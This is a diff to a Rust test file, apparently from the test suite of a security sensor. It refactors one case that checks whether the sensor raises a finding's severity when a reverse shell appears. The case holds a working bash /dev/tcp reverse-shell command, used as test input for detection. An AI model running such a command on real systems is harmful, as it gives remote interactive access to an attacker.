@@ -152,10 +152,8 @@ pub fn cases() -> Vec<Case> {
         Case::new("places::raised_by_the_shell", &["ip", "nsenter", "timeout"], |lab| {
             let mut peer = remote(lab, "exec 3<>/dev/tcp/$H/$P; exec timeout 600 sh <&3 >&3 2>&3")?;
             peer.id()?;
-            let first = lab.finding(peer.ends(), COMMAND)?;
-            let raised = lab.sensor.wait_line("a raised severity", 0, |line| {
-                line.id() == first.id() && line.text("severity") == REVERSE.severity
-            })?;
+            lab.finding(peer.ends(), COMMAND)?;
+            let raised = lab.risen_finding(peer.ends(), REVERSE)?;
             peer.send("exit\n")?;
             lab.ended(&raised)?;
             Ok(())
